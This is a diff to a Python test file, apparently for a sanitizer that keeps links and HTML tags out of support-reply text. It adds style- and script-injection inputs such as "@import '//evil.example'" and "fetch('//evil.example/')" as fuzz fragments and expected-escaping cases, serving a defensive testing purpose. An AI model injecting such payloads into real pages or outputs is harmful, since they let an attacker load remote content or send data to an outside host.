@@ -24,6 +24,7 @@ PARTS = (
     "http", "https", "https://", "HTTPS://", "http:\\\\", "ftp://", "www.", "w", "ww", "h", "t",
     "<img src=", "<a href=", "<b>", "</b>", "javascript:", "data:text/html,", "?q=secret", "#x",
     "[kb-012]", "Your refund is on its way.", "price (net)", "a_b", "=", "\t", ".", "é", "&#58;",
+    "<style>", "</style>", "<STYLE/>", "<script>", "<svg>", "<www.style>", "style>", "@import '//evil'",
     *HOSTS, *(f"https://{host}/p" for host in HOSTS), *(f"](https://{host}/p)" for host in HOSTS),
     *(f"]: https://{host}/p\n" for host in HOSTS), *(f"<https://{host}/p>" for host in HOSTS),
 )  # fmt: skip
@@ -65,13 +66,14 @@ def test_no_cut_lets_a_link_through_or_changes_what_is_said() -> None:
         assert pieces == whole, (seed, text)
         assert leads_elsewhere(whole) == [], (seed, text, whole)
         assert not re.search(r"<[a-z][^<>]*=[^<>]*>", whole, re.IGNORECASE), (seed, text, whole)
+        assert not re.search(r"<(?:style|script|svg)", whole, re.IGNORECASE), (seed, text, whole)
 
 
 @pytest.mark.parametrize(
     "text",
     [
         "You were charged twice [kb-012]. That is 3 < 5 and (a) [b] {c}.",
-        "Use List<String> and <b>bold</b>, see https://help.example.com/a?b=c#d.",
+        "Use List<String> and <b>bold</b><br/>, see https://help.example.com/a?b=c#d.",
         "[the guide](https://a.shop.example/guide) and ![a map](https://help.example.com/m.png)",
         "www is short for world wide web; htt is nothing; 5:30 o'clock",
         "  spaces\n\nand lines\tstay ",
@@ -95,6 +97,14 @@ def test_text_and_allowed_links_stay_as_they_are(text: str) -> None:
         ("<https://evil.example/a>", "evil.example"),
         ("https://help.example.com:8443/", "help.example.com"),
         ("http://help.example.com/", "help.example.com"),
+        (
+            "<style>@import '//evil.example/?q'</style>",
+            "&lt;style>@import '//evil.example/?q' &lt;/style>",
+        ),
+        ("<STYLE\n>a{b:url(//evil.example)}", "&lt;STYLE\n>a{b:url(//evil.example)}"),
+        ("<script>fetch('//evil.example/')", "&lt;script>fetch('//evil.example/')"),
+        ("<www.style>@import '//evil.example'", "&lt;style>@import '//evil.example'"),
+        ("[a](<style>)@import '//evil.example'", "[a] ( &lt;style>)@import '//evil.example'"),
     ],
 )
 def test_what_leads_elsewhere_is_text(text: str, shown: str) -> None:
